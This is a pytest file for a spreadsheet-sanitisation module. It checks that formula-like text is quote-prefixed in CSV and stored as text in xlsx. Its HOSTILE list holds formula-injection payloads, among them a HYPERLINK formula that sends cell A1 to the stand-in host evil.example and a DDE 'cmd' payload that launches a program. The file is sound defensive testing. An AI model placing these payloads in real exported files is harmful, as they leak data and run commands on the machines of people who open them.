"""Class 5 (formula injection): formula-like text is written as text in xlsx and prefixed
with a quote in CSV (OWASP); numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from canlian.common.spreadsheets import (
    SafeCsvWriter,
    append_row,
    csv_row,
    csv_safe,
    is_formula_like,
    safe_xlsx_cell,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_is_prefixed_in_csv(value: str) -> None:
    assert is_formula_like(value)
    assert csv_safe(value) == "'" + value
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerow(["张三", value, 3])
    assert next(csv.reader(io.StringIO(buffer.getvalue())))[1] == "'" + value


def test_plain_text_and_numbers_are_left_alone() -> None:
    assert csv_row(["张三", "-5", "+86", "3.5", -5, 2.5, None, "a=b"]) == [
        "张三", "-5", "+86", "3.5", -5, 2.5, None, "a=b",
    ]  # fmt: skip


@pytest.mark.parametrize("write_only", [False, True])
def test_formula_like_text_is_a_text_cell_in_xlsx(write_only: bool) -> None:
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet() if write_only else workbook.active
    assert sheet is not None
    append_row(sheet, ["名称", *HOSTILE, 7, -3.5])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = next(iter(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows()))
    # XML turns a carriage return into a line feed; the cell is text either way.
    written = ["名称", *(value.replace("\r", "\n") for value in HOSTILE), 7, -3.5]
    assert [cell.value for cell in cells] == written
    assert [cell.data_type for cell in cells[1:-2]] == ["s"] * len(HOSTILE)
    assert [cell.data_type for cell in cells[-2:]] == ["n", "n"]


def test_a_cell_written_by_coordinates_is_made_text() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet["B2"] = HOSTILE[0]
    assert sheet["B2"].data_type == "f"  # what openpyxl does on its own
    safe_xlsx_cell(sheet["B2"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cell = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]["B2"]
    assert (cell.value, cell.data_type) == (HOSTILE[0], "s")
